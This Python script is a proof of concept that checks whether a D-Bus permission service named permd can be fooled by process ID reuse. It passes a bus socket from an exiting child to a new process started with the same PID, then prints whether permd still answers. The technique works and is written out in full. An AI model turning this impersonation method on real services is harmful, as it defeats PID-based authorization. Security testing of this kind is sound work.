# Impersonates an innocent program by process ID reuse. Run as root, or through sudo by the user of the bus.
#
#     reuse.py SOCKET
#
# A child connects to the bus at SOCKET, passes the socket to this program and exits; an innocent program is started
# with the child's process ID. This program then calls permd over the socket, as settings programs do. It prints the
# result, "ok" or the error's name, for a child that is alive and for one that has exited.
import array, ctypes, errno, os, re, signal, socket, struct, sys, time

PATH = sys.argv[1]
USER = int(os.environ.get("SUDO_UID", os.getuid()))
GROUP = int(os.environ.get("SUDO_GID", os.getgid()))


def become_user():
    if os.getuid() != USER:
        os.setgroups([])
        os.setresgid(GROUP, GROUP, GROUP)
        os.setresuid(USER, USER, USER)
        # PR_SET_DUMPABLE: otherwise only root may inspect a process that has changed its user.
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)


def string(text):
    return struct.pack("<I", len(text)) + text.encode() + b"\0"


def call(serial, destination, path, interface, member):
    fields = b""
    for code, kind, text in [(1, "o", path), (2, "s", interface), (3, "s", member), (6, "s", destination)]:
        fields += b"\0" * (-len(fields) % 8) + bytes([code, 1]) + kind.encode() + b"\0" + string(text)
    header = b"l\1\0\1" + struct.pack("<III", 0, serial, len(fields)) + fields
    return header + b"\0" * (-len(header) % 8)


def read_message(bus):
    def read(count):
        data = b""
        while len(data) < count:
            part = bus.recv(count - len(data))
            if not part:
                sys.exit("the bus closed the connection")
            data += part
        return data

    head = read(16)
    body, fields = struct.unpack("<I4xI", head[4:])
    return head[1], read(fields + -fields % 8 + body)


def answer(bus, serial):
    while True:
        kind, rest = read_message(bus)
        if kind in (2, 3) and b"\5\1u\0" + struct.pack("<I", serial) in rest:
            return kind, rest


def connect():
    bus = socket.socket(socket.AF_UNIX)
    bus.connect(PATH)
    return bus


def log_in(bus):
    bus.sendall(b"\0AUTH EXTERNAL " + str(USER).encode().hex().encode() + b"\r\n")
    line = b""
    while not line.endswith(b"\r\n"):
        line += bus.recv(1)
    if not line.startswith(b"OK"):
        sys.exit("the bus refuses to authenticate: %r" % line)
    bus.sendall(b"BEGIN\r\n" + call(1, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello"))
    answer(bus, 1)


def ask(bus):
    bus.sendall(call(2, "org.permd", "/org/permd", "org.permd.Policy1", "ListRequests"))
    kind, rest = answer(bus, 2)
    return "ok" if kind == 2 else re.search(rb"org\.\w+(?:\.\w+)*\.(\w+)", rest[rest.find(b"\4\1s\0"):]).group(1).decode()


def connect_and_hand_over(lives):
    ours, theirs = socket.socketpair()
    child = os.fork()
    if child == 0:
        become_user()
        bus = connect()
        log_in(bus)
        # When permd answers another connection, it has heard of the first.
        beside = connect()
        log_in(beside)
        ask(beside)
        theirs.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [bus.fileno()]))])
        if lives:
            theirs.recv(1)
        os._exit(0)
    _, control, _, _ = ours.recvmsg(1, socket.CMSG_SPACE(4))
    bus = socket.socket(fileno=array.array("i", control[0][2])[0])
    if not lives:
        os.waitpid(child, 0)
    return child, bus, ours


def fork_as(number):
    """fork(2) with a given process ID: by clone3(2) if possible, otherwise by setting the last assigned ID."""
    numbers = (ctypes.c_int32 * 1)(number)
    # struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size
    arguments = (ctypes.c_uint64 * 10)(0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(numbers), 1)
    pid = ctypes.CDLL(None, use_errno=True).syscall(435, arguments, ctypes.sizeof(arguments))
    if pid >= 0:
        return pid
    if ctypes.get_errno() == errno.EEXIST:
        return -1
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(number - 1))
    return os.fork()


def start_innocent(number, stolen):
    ours, theirs = socket.socketpair()
    innocent = fork_as(number)
    if innocent < 0:
        return innocent
    if innocent == 0:
        stolen.close()
        become_user()
        os.execvp("sleep", ["sleep", "1000"])
    # execve(2) has closed its end.
    theirs.close()
    ours.recv(1)
    return innocent


def tick():
    return int(time.clock_gettime(time.CLOCK_BOOTTIME) * os.sysconf("SC_CLK_TCK"))


def reuse():
    # Another process may be assigned the ID first.
    for attempt in range(100):
        child, bus, ours = connect_and_hand_over(False)
        # The kernel counts starts in ticks. An attacker without root has to wait until all other IDs were assigned, which
        # takes longer than one.
        now = tick()
        while tick() == now:
            pass
        innocent = start_innocent(child, bus)
        if innocent < 0:
            continue
        if innocent == child:
            result = ask(bus)
        os.kill(innocent, signal.SIGKILL)
        os.waitpid(innocent, 0)
        if innocent == child:
            return result
    sys.exit("the process ID could not be reused")


child, bus, ours = connect_and_hand_over(True)
print("living:", ask(bus), flush=True)
ours.send(b"x")
os.waitpid(child, 0)
bus.close()
print("reused:", reuse(), flush=True)
